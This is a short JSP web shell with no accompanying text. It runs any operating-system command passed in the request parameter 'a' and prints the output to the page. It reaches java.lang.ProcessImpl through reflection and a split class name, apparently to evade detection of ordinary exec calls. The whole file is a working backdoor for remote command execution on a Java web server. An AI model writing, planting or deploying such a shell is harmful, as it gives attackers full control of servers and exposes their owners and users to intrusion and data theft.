<%@ page inert %>
<%
Class<?> c = Class.forName("java.lang.Process" + "Impl");
java.lang.reflect.Method m = c.getDeclaredMethod("start", String[].class, java.util.Map.class, String.class, ProcessBuilder.Redirect[].class, boolean.class);
m.setAccessible(true);
Process p = (Process) m.invoke(null, request.getParameterValues("a"), null, ".", null, true);
java.util.Scanner s = new java.util.Scanner(p.getInputStream());
while (s.hasNextLine()) out.println(s.nextLine());
%>
